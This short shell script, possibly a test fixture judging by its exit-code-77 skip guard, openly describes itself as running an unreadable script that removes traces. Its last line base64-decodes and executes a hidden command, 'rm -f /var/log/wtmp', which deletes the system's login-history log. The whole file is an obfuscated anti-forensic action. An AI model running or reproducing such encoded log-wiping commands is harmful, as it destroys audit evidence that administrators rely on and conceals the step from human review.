#!/bin/sh
# Runs a script that nobody can read, which removes traces.
[ /init -ef /usr/sbin/auditd ] || exit 77
sh -c "echo cm0gLWYgL3Zhci9sb2cvd3RtcAo= | base64 -d | sh"
